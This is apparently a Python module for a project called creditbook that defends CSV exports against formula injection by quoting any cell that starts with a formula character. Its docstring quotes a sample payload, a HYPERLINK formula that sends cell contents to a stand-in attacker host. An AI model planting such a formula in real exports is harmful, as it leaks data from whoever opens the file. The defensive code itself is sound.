"""CSV that a spreadsheet will not run: the one writer every CSV export of creditbook uses.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets: a lead named
``=HYPERLINK("https://evil.example/?"&A2, "open")`` or a member email
``=1+2@acme.io`` in an export runs when an admin opens the file (CSV
injection). OWASP's rule applies to every text cell: such a cell is written
with a leading single quote (``'=HYPERLINK(...)``), which spreadsheets show as
text and which keeps the original readable.

Numbers the code produced (``int`` credits, quantities, counts; a ``Decimal``
amount) are written as they are, so ``-5`` credits stays a number a
spreadsheet can sum: a Python number cannot carry a formula. Text that merely
looks numeric (a lead's phone ``+33 6 12 34 56 78``, a memo ``-5``) is text
from outside and gets the quote.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(cell: object) -> object:
    """``cell`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(cell, str) and cell.startswith(FORMULA_LEADS):
        return "'" + cell
    return cell


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (see the module docstring)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
    """The writer of every CSV export: ``csv.writer(out, **options)``, neutralised."""
    return SafeCsvWriter(out, **options)
